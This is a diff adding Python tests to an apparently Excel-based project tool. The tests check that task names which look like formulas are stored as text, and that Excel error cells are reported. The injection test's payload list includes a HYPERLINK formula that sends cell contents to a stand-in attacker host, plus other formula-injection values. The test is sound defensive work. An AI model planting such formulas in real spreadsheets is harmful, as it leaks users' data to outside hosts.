@@ -133,3 +133,49 @@ def test_a_formula_without_a_value_is_one_error_at_its_field(book: tuple[Path, P
     (e,) = report.errors
     assert e.file.endswith("[projects]") and e.line == 2 and e.field == "budget"
     assert e.message == "formula has no computed value"
+
+
+INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(1)"]
+
+
+def test_names_that_look_like_formulas_are_stored_as_text_and_read_back(
+    book: tuple[Path, Path], tmp_path: Path
+) -> None:
+    """OWASP's CSV/formula injection: a name starting ``=`` was written as a live formula (it
+    ran when the PMO opened the downloaded workbook, and the workbook did not load back)."""
+    folder, _ = book
+    pf = load_portfolio(folder)
+    for i, text in enumerate(INJECTIONS):
+        pf.projects.loc[i % len(pf.projects), "name"] = text
+        pf.tasks.loc[i, "name"] = text
+    xlsx = write_workbook(pf, tmp_path / "injected.xlsx")
+    wb = open_book(xlsx)  # not data_only: formulas show as formulas
+    kinds = {c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row}
+    assert "f" not in kinds
+    names = [c.value for c in wb["tasks"]["D"]]
+    assert names[1 : 1 + len(INJECTIONS)] == INJECTIONS  # the text, exactly
+    back = load_workbook(xlsx)
+    pd.testing.assert_frame_equal(back.tasks, pf.tasks, check_dtype=False)
+    pd.testing.assert_frame_equal(back.projects, pf.projects, check_dtype=False)
+
+
+def test_an_excel_error_cell_is_an_error_even_in_a_text_column(book: tuple[Path, Path]) -> None:
+    """``#N/A`` (a failed lookup) in a name column was loaded as the task's name; in a number
+    column it is now one error (not also "cannot read '#DIV/0!'"); in a column pmkit does not
+    read it is nothing."""
+    _, xlsx = book
+    wb = open_book(xlsx)
+    ws = wb["tasks"]
+    head = [c.value for c in ws[1]]
+    name, dur = ws.cell(2, head.index("name") + 1), ws.cell(3, head.index("duration_days") + 1)
+    name.value, name.data_type = "#N/A", "e"
+    dur.value, dur.data_type = "#DIV/0!", "e"
+    extra = ws.cell(1, len(head) + 1, "notes")
+    ws.cell(2, extra.column, "#REF!").data_type = "e"
+    wb.save(xlsx)
+    found = [i for i in validate_workbook(xlsx).issues if i.severity == "error"]
+    assert [(i.line, i.field, i.value) for i in found] == [
+        (2, "name", f"#N/A in {name.coordinate}"),
+        (3, "duration_days", f"#DIV/0! in {dur.coordinate}"),
+    ]
+    assert all(i.message == "the cell holds an Excel error, not a value" for i in found)
